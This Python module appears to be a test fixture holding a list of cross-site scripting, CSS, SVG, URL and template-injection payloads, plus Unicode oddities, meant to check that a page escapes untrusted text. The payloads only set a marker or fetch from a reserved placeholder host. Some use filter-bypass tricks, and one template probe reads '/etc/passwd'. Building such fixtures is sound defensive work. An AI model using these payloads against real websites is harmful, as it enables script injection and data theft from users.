"""Texts that would run or load something if a page took them for markup, script, style, an address or a template.

Each tries to set `window.ran`, to open a dialog or to fetch from the reserved host `payload.invalid`. Holds no tests.
"""

from __future__ import annotations

from itertools import product

_RUN = "window.ran=1"
_URL = "https://payload.invalid/x"

_SCRIPTS = [
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT >",
    f"<script src={_URL}.js></script>",
    f"<script type=module>import('{_URL}.js')</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script\x00>{_RUN}</script>",
    f"<script/x>{_RUN}</script>",
    f"<!--<script>--><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</noscript><script>{_RUN}</script>",
    f"</template><script>{_RUN}</script>",
    f"</select></option><script>{_RUN}</script>",
    f"<noscript><p title='</noscript><script>{_RUN}</script>'>",
    f"\u2028</script>\u2029<script>{_RUN}</script>",
    f'"}};{_RUN};//',
    f"';{_RUN};//",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\ufeff<script>{_RUN}</script>",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
]
_EVENTS = [
    f"<{element} {event}={_RUN}>"
    for element, event in (
        *product(("img src=x", "video src=x", "audio src=x", "input type=image src=x"), ("onerror", "onloadstart")),
        *product(
            ("body", "svg", "iframe src=about:blank", "style", "link rel=stylesheet href=x"), ("onload", "onpageshow")
        ),
        ("details open", "ontoggle"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("marquee", "onstart"),
        ("div style=animation:x", "onanimationstart"),
        ("div tabindex=0 autofocus", "onfocusin"),
        ("object data=x", "onerror"),
        ("source src=x", "onerror"),
        ("dialog open", "onclose"),
    )
]
_ATTRIBUTES = [
    f'" onmouseover="{_RUN}" x="',
    f"' onmouseover='{_RUN}' x='",
    f"` onmouseover=`{_RUN}`",
    f'" autofocus onfocus="{_RUN}',
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg/onload={_RUN}>",
    f'" style="background:url({_URL})',
    f'" src="{_URL}" "',
    f'" href="javascript:{_RUN}" "',
    f'" srcdoc="<script>{_RUN}</script>',
]
_STYLES = [
    f"<style>body{{background:url({_URL})}}</style>",
    f"<style>@import '{_URL}.css';</style>",
    f"<style>@font-face{{font-family:x;src:url({_URL})}}*{{font-family:x}}</style>",
    f"<link rel=stylesheet href={_URL}.css>",
    f"<link rel=preload as=image href={_URL}>",
    "<link rel=dns-prefetch href=//payload.invalid>",
    f"<div style=background-image:url({_URL})>",
    f"<div style='width:expression({_RUN})'>",
    "}</style><style>*{display:none}</style>",
    "</style><style>html{display:none}",
    f"</style><base href={_URL}><style>",
]
_SVG = [
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href={_URL}.js /></svg>",
    f"<svg><image href={_URL} /></svg>",
    f"<svg><use href={_URL}#x /></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s />",
    f"<svg><set attributeName=href to=javascript:{_RUN} />",
    f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
    f"<svg><foreignObject><iframe src=javascript:{_RUN}></iframe></foreignObject></svg>",
    f"<svg><style>*{{fill:url({_URL})}}</style></svg>",
    f"</svg></text><script>{_RUN}</script><svg>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<math href=javascript:{_RUN}>x</math>",
    f"<feImage href={_URL} />",
]
_ADDRESSES = [
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    f"vbscript:{_RUN}",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<iframe src={_URL}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data={_URL}></object>",
    f"<embed src={_URL}>",
    f"<base href={_URL}>",
    f"<meta http-equiv=refresh content='0;url={_URL}'>",
    f"<form action={_URL}><input autofocus></form>",
    f"<img src={_URL}>",
    f"<img srcset='{_URL} 1x'>",
    f"<video poster={_URL}></video>",
    f"<audio src={_URL} autoplay></audio>",
    f"<track src={_URL}>",
    f"<portal src={_URL}></portal>",
    f"![x]({_URL})",
    f"[x](javascript:{_RUN})",
    "//payload.invalid/x",
    f"#case-<script>{_RUN}</script>",
]
_TEMPLATES = [
    f"{{{{ ''.__class__ }}}} {{{{{_RUN}}}}}",
    "{% include '/etc/passwd' %}",
    "{{ config.items() }}",
    "{# comment #}{{ 7 * 7 }}",
    f"${{{_RUN}}}",
    f"`${{{_RUN}}}`",
    f"<%= {_RUN} %>",
    f"#{{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    "{shown} {count} {0} {measure.__class__}",
    "__proto__",
    "constructor",
    "$& $1 $` $'",
    "%s %d %(name)s",
]
_UNICODE = [
    "\u202eevil\u202c \u2066x\u2069",
    "\u200b\u200d\ufeff\u00ad",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "a" + "\u0301" * 200,
    "\x1b[31mred\x1b]8;;https://payload.invalid\x07x\x1b]8;;\x07",
    "\x00\x01\x02\x7f\x80\x9f",
    "\u2028\u2029\x85\x0b\x0c",
    "\ufffe\uffff",
    "𝓈𝒸𝓇𝒾𝓅𝓉 ＜script＞",
    "ﷺ" * 50,
]

PAYLOADS = (
    *_SCRIPTS,
    *_EVENTS,
    *_ATTRIBUTES,
    *_STYLES,
    *_SVG,
    *_ADDRESSES,
    *_TEMPLATES,
    *_UNICODE,
)
